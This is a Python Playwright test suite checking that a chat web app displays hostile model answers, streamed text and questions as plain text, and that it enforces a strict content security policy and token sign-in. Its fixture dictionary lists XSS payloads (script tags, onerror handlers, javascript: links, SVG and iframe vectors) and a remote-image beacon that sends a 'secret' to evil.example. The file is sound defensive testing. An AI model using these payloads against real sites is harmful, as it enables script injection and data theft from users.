"""What a model or a stranger says cannot run, load or submit anything."""

from __future__ import annotations

import pytest
from playwright.async_api import expect

from browser.conftest import Visit
from browser.visitor import Visitor, script
from support.stack import StackMaker

HOSTILE = {
    "a script tag": "<script>window.hacked = 1; alert(1)</script>",
    "an image that fails": '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "a remote image": "![innocent](https://evil.example/pixel.png?q=secret)",
    "an image in a link": "[![a](https://evil.example/a.png)](https://evil.example/)",
    "a reference image": "![a][b]\n\n[b]: https://evil.example/a.png",
    "a javascript link": "[click](javascript:alert(1)) [more](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "an escaped javascript link": "[click](&#106;avascript:alert(1)) [tab](java\tscript:alert(1))",
    "a vbscript link": "[click](vbscript:msgbox(1))",
    "a data link": "[click](data:text/html,<script>alert(1)</script>)",
    "a data image": '![x](data:image/svg+xml,<svg onload="alert(1)"/>)',
    "a link to our own verbs": "[sign out](/sign-out) [api](//evil.example/x) [file](file:///etc/passwd)",
    "svg": '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    "mathml": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "an iframe": '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a form": '<form action="https://evil.example"><input name=q><button autofocus onfocus=alert(1)>go</button></form>',
    "styles": '<style>*{background:url(https://evil.example/)}</style><p style="background:url(//evil.example)">x</p>',
    "a base and a link element": '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/a.css>',
    "a meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "mutated markup": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "a title that breaks out": '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    "a fence that breaks out": '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "a fence of html": "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "a table that breaks out": "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) `<script>` |",
    "an autolink": "https://example.com/<script>alert(1)</script> www.example.com",
}

WATCH = """() => {
  const check = CHECK;
  window.seen = [];
  new MutationObserver(() => {
    for (const root of document.querySelectorAll(".markdown")) window.seen.push(...check(root));
  }).observe(document.body, { childList: true, subtree: true, attributes: true, characterData: true });
}"""


@pytest.mark.parametrize("what", HOSTILE)
async def test_a_hostile_answer_is_only_text(visitor: Visitor, what: str) -> None:
    await visitor.ask("Attack " + visitor.script(HOSTILE[what], "\n\nThe end."))
    await expect(visitor.answer).to_contain_text("The end.")
    await visitor.finished()
    assert await visitor.check("hostile", visitor.answer) == []
    assert await visitor.page.evaluate("window.hacked") is None
    visitor.assert_undisturbed()


async def test_hostile_text_is_only_text_at_every_moment_of_its_arrival(visitor: Visitor) -> None:
    await visitor.page.evaluate(WATCH.replace("CHECK", script("hostile")))
    text = "\n\n".join(HOSTILE.values())
    await visitor.ask("Slowly " + visitor.script(*[text[n : n + 9] for n in range(0, len(text), 9)], "\n\nThe end."))
    await expect(visitor.answer).to_contain_text("The end.")
    await visitor.finished()
    assert await visitor.page.evaluate("window.seen") == []


async def test_a_hostile_question_and_title_are_only_text(visitor: Visitor) -> None:
    await visitor.ask('<img src=x onerror=alert(1)> "><script>alert(1)</script> question')
    await visitor.finished()
    await expect(visitor.questions.first).to_contain_text("<img src=x onerror=alert(1)>")
    assert await visitor.page.locator("#page img, #page script").count() == 0


async def test_the_policy_forbids_inline_scripts_and_foreign_hosts(visitor: Visitor) -> None:
    reply = await visitor.page.request.get(visitor.url)
    policy = reply.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    ran = await visitor.page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.ran = true";
          document.body.append(script);
          return window.ran === true;
        }"""
    )
    assert not ran


async def test_a_page_that_needs_a_token_asks_for_it(visit: Visit, make_stack: StackMaker) -> None:
    token = "a-token-of-enough-characters"
    stack = await make_stack(settings={"HEADWATER_ACCESS_TOKEN": token})
    visitor = await visit(stack)
    await visitor.page.wait_for_url("**/sign-in")
    await visitor.page.get_by_label("Access token").fill("wrong-token-wrong-token")
    await visitor.page.get_by_role("button", name="Sign in").click()
    await expect(visitor.page.get_by_role("alert")).to_be_visible()
    await visitor.page.get_by_label("Access token").fill(token)
    await visitor.page.get_by_role("button", name="Sign in").click()
    await visitor.ask("Let me in")
    await visitor.finished()
    await visitor.page.get_by_role("button", name="Sign out").click()
    await visitor.page.wait_for_url("**/sign-in")
    await visitor.page.get_by_label("Access token").fill(token)
    await visitor.page.get_by_role("button", name="Sign in").click()
    await expect(visitor.page.get_by_role("searchbox")).to_be_visible()
    # A session that ends leads back, instead of to errors.
    await visitor.context.clear_cookies()
    await visitor.page.get_by_role("searchbox").fill("anything")
    await visitor.page.wait_for_url("**/sign-in")
